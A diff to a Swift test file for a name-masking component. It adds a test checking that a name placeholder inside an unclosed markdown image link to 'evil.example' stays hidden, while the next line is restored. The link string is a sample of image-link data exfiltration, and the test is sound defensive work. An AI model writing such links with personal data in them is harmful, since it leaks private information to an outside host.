@@ -113,6 +113,17 @@ import Testing
         #expect(!(shown + mask.restore(rest)).contains("Mia"))
     }
 
+    @Test("an address that is not closed ends with its line, and what follows is restored")
+    func unclosedAddress() {
+        var mask = Mask(finder)
+        _ = mask.hide("Mia Kim asks.")
+        let written = "See ![l](<https://evil.example/ PERSON_1\nAsk PERSON_1 now."
+        #expect(mask.restore(written) == "See ![l](<https://evil.example/ PERSON_1\nAsk Mia Kim now.")
+        var (rest, shown) = ("", "")
+        for character in written { shown += mask.restore(next: String(character), rest: &rest) }
+        #expect((shown + mask.restore(rest)).hasSuffix("\nAsk Mia Kim now."))
+    }
+
     @Test("a name with characters in it that nobody sees is hidden all the same")
     func unseen() {
         var mask = Mask(PersonalData(names: RosterNames([.init(given: "Mia", family: "Kim")])))
